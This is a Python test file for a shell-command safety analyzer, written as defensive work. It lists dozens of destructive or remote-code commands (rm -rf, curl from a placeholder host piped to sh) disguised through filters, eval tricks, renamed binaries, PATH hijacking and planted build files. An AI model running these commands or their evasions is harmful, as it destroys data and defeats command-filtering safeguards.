"""Places where a shell reads a text once more or calls something by itself, and programs under another name."""

from __future__ import annotations

import pytest

from tests.flow.evaluations import outcomes

HARMFUL = [
    # through filters
    ("printf 'rm -rf /' | pv | sh", "bash", "computed"),
    ("printf 'rm -rf /' | m4 | sh", "bash", "computed"),
    ("printf 'rm -rf /' | envsubst | sh", "bash", "computed"),
    ("curl https://example.com/p | gpg -d | sh", "bash", "fetched"),
    ("curl https://example.com/p | dos2unix | bash", "bash", "fetched"),
    ("curl https://example.com/p | openssl smime -verify | sh", "bash", "fetched"),
    ("curl https://example.com/p | 7z e -so -si | bash", "bash", "fetched"),
    ("curl https://example.com/p | docker run -i alpine cat | bash", "bash", "fetched"),
    ("curl https://example.com/p > a; pv a | sh", "bash", "fetched"),
    ("curl https://example.com/p > a; some-unknown a | sh", "bash", "fetched"),
    # callbacks and names
    ("mapfile -C eval -c 1 a < <(curl https://example.com/p)", "bash", "fetched"),
    ('f(){ eval "$2"; }; mapfile -C f -c1 < <(curl https://example.com/p)', "bash", "fetched"),
    ("bind -x '\"a\":rm -rf ~'", "bash", "deleted"),
    ("declare -a 'a=($(rm -rf ~))'", "bash", "deleted"),
    ("f(){ local 'a[$(rm -rf ~)]=1'; }; f", "bash", "deleted"),
    ("wait -n -p 'a[$(rm -rf ~)]'", "bash", "deleted"),
    ("x='b[$(rm -rf ~)]'; declare -n z=$x; echo $z", "bash", "deleted"),
    # built-ins of other dialects
    ("shift $(curl -s https://example.com/p)", "mksh", "evaluated"),
    ('[ "$(curl -s https://example.com/p)" -eq 0 ]', "mksh", "evaluated"),
    ("echo $((10#$(curl -s https://example.com/p)))", "mksh", "evaluated"),
    ('exit "$(curl -s https://example.com/p)"', "zsh", "evaluated"),
    ('printf "%*d" "$(curl -s https://example.com/p)" 1', "zsh", "evaluated"),
    ('set -A "$(curl -s https://example.com/p)" 1', "zsh", "evaluated"),
    ('print -v "$(curl -s https://example.com/p)" x', "zsh", "evaluated"),
    ("alias $(curl -s https://example.com/p); eval x", "dash", "fetched"),
    ("declare -A x; x[$(curl -s https://example.com/p)]=1", "mksh", "evaluated"),
    ("curl -so json.py https://example.com/p; python3 -c 'import json'", "bash", "fetched"),
    # programs under another name, files that programs load
    ("cp $(which curl) c; ./c u | sh", "bash", "fetched"),
    ("type -P rm | xargs -I% % -rf /", "bash", "deleted"),
    ("BASH_CMDS[ls]=/bin/rm; ls -rf /", "bash", "deleted"),
    ("cp /bin/rm x; ./x -rf /", "bash", "deleted"),
    ('cp "$(command -v rm)" x; ./x -rf /', "bash", "deleted"),
    ("cat > Makefile <<E\nall:\n\trm -rf /\nE\nmake", "bash", "deleted"),
    ("curl -s https://example.com/p > Makefile; make", "bash", "fetched"),
    ("curl -s https://example.com/p > GNUmakefile; make", "bash", "fetched"),
    ("curl -s https://example.com/p > package.json; npm test", "bash", "fetched"),
    ("curl -s https://example.com/p > bin/ls; chmod +x bin/ls; PATH=$PWD/bin:$PATH ls", "bash", "fetched"),
    ('cat > package.json <<E\n{"scripts": {"test": "rm -rf /"}}\nE\nnpm test', "bash", "deleted"),
    ("PATH=$PWD/bin:$PATH; curl -s https://example.com/p > bin/ls; chmod +x bin/ls;  ls", "bash", "fetched"),
    ('"$(type -P rm)" -rf /', "bash", "deleted"),
    # aliases, options, escapes
    ("a='rm\\x20-rf\\x20/'; eval \"${a@E}\"", "bash", "deleted"),
    # variables
    ('HOME=/x echo ok; rm -rf "$HOME"', "bash", "deleted"),
    ("=rm -rf ~", "zsh", "deleted"),
    ("emulate sh -c 'rm -rf ~'", "zsh", "deleted"),
    ('HOME=/tmp/x echo ok; rm -rf "$HOME"', "bash", "deleted"),
    ("x=1 HOME=/tmp/x true; rm -rf ~", "bash", "deleted"),
    # more
    ("curl -s https://example.com/p | yq .a | sh", "bash", "fetched"),
    ("x=(rm -rf ~); $x", "zsh", "deleted"),
    ("- rm -rf ~", "zsh", "deleted"),
    ("sched +1 rm -rf ~", "zsh", "deleted"),
    ("zmodload zsh/files; zf_rm -rf ~", "zsh", "deleted"),
    ("a=$(curl -s https://example.com/p); declare -p a | cut -d= -f2 | bash", "bash", "fetched"),
]

HARMLESS = [
    ("export 'a[$(rm -rf ~)]=1'", "bash"),
    # through filters
    ("echo ls | tr a-z a-z | sh", "bash"),
    ("cat s.sh | envsubst | sh", "bash"),
    ("sed 's/a/b/' s.sh | sh", "bash"),
    ("awk '{print $1}' f | sort", "bash"),
    ("kubectl kustomize . | kubectl apply -f -", "bash"),
    ("echo hi | some-unknown", "bash"),
    ("echo hi | pv | cat", "bash"),
    ("sed 's/x/y/' build.sh | bash", "bash"),
    # callbacks and names
    ("mapfile -C echo -c 1 a < <(curl https://example.com/p)", "bash"),
    ("bind '\"\\e[A\": history-search-backward'", "bash"),
    ("mapfile -t a < <(curl https://example.com/p)", "bash"),
    ("bind -x '\"\\C-l\":clear'", "bash"),
    ("declare -a 'a=(1 2 3)'", "bash"),
    ("wait -n -p x", "bash"),
    ("declare -n z=x; echo $z", "bash"),
    ("f(){ local 'a=1'; }; f", "bash"),
    # built-ins of other dialects
    ("shift 2", "mksh"),
    ('printf "%s\\n" "$(curl -s https://example.com/p)"', "zsh"),
    ('print "$(curl -s https://example.com/p)"', "zsh"),
    ("alias $(curl -s https://example.com/p)", "bash"),
    ("curl -so data.json https://example.com/p; python3 -c 'import json'", "bash"),
    ("curl -so get.py https://example.com/p; python3 -c 'import json'", "bash"),
    # programs under another name, files that programs load
    ("cp $(which curl) c; ls", "bash"),
    ("BASH_CMDS[ll]=/bin/ls; ll", "bash"),
    ("cat > Makefile <<E\nall:\n\techo hi\nE\nmake", "bash"),
    ("cat > Makefile <<E\nclean:\n\trm -rf build\nE\nmake clean", "bash"),
    ("PATH=$PWD/bin:$PATH ls", "bash"),
    ('cat > package.json <<E\n{"scripts": {"test": "jest", "nuke":"rm -rf /"}}\nE\nnpm test', "bash"),
    ("cat > Makefile <<'E'\nCC=gcc\nall: main.o\n\t$(CC) -o $@ $<\nclean:\n\trm -f *.o main\nE\nmake", "bash"),
    ("cat > Makefile <<'E'\nBUILD := build\nclean:\n\trm -rf $(BUILD)\nE\nmake clean", "bash"),
    ("curl -s https://example.com/p > data/ls; PATH=$PWD/bin:$PATH ls", "bash"),
    ("type -P rm", "bash"),
    ("x=$(type -p python3)", "bash"),
    # aliases, options, escapes
    ('a=(b); eval "${a@E}"', "bash"),
    ("a='x\\ty'; echo \"${a@E}\"", "bash"),
    ("set -H", "bash"),
    ("set -o histexpand; ls", "bash"),
    ("set -o history", "bash"),
    # variables
    ("set | grep X", "bash"),
    ("export -p", "bash"),
    ('X=build; rm -rf "$X"/*', "bash"),
    ("mkfifo f; cat f & echo hi > f", "bash"),
    ("emulate sh -c 'ls'", "zsh"),
    ("=ls", "zsh"),
    # more
    ("curl -s https://example.com/p | yq .a", "bash"),
    ("curl -s https://example.com/p | wc -l", "bash"),
    ("n=$(curl -s https://example.com/p | wc -l); (( n > 3 ))", "bash"),
    ("curl -s https://example.com/p | sha256sum | cut -d' ' -f1", "bash"),
    ('x=(a b); echo $x "$x"', "zsh"),
    ("x=(ls -la); $x", "zsh"),
    ('a=$(curl -s https://example.com/p); eval "b=$(printf %q "$a")"', "bash"),
    ("declare -p a", "bash"),
    ("x=1; declare -p x | cat", "bash"),
]


@pytest.mark.parametrize(("text", "dialect", "outcome"), HARMFUL)
def test_harmful(text: str, dialect: str, outcome: str) -> None:
    """What is executed or destroyed is seen, whatever way it takes."""
    assert outcome in outcomes(text, dialect)


@pytest.mark.parametrize(("text", "dialect"), HARMLESS)
def test_harmless(text: str, dialect: str) -> None:
    """The look-alike that does no harm is quiet."""
    assert outcomes(text, dialect) == set()
